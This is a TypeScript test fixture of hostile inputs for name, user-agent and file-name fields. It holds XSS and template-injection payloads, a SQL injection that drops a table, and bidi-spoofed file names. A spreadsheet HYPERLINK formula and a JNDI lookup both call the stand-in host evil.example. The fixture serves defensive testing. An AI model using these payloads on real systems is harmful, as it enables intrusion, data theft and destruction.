export const RIGHT_TO_LEFT = 'שלום עליכם: رمز النشر للخادم (القديم) 123 — nightly'

/** What somebody could type to have it run, to turn the page around, or to burst it: 200 characters at most, as a name may have. */
export const HOSTILE_NAMES: readonly string[] = [
  `<img src=x onerror="window.pwned=1">`,
  `"><script>window.pwned=1</script><svg onload=window.pwned=1>`,
  'javascript:window.pwned=1//',
  `'-window.pwned=1-' \${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}`,
  `</title></textarea><iframe srcdoc="<script>parent.pwned=1</script>">`,
  `=HYPERLINK("https://evil.example/?"&A1,"open") +1 @SUM(1) -1`,
  RIGHT_TO_LEFT,
  'W'.repeat(200),
  '﷽'.repeat(200),
  `${'Z̶̢̛̺͓̈́͛'.repeat(20)} zalgo`,
  '👩‍👩‍👧‍👦'.repeat(18),
  `' OR 1=1; DROP TABLE token; --`,
]

/** What only a program's own word for itself can hold: a header is not asked to be short or polite. */
export const HOSTILE_AGENTS: readonly string[] = [
  `<img src=x onerror="window.pwned=1">`,
  `\${jndi:ldap://evil.example/a} <script>window.pwned=1</script>`,
  'X'.repeat(10_000),
]

/** Refused at the door, and told in the form: these would turn what stands beside them around, or hide in it. */
export const REFUSED_NAMES: readonly string[] = ['\u202egnp.exe', 'a\u200bb', '\u2066isolated', 'nul\u0000']
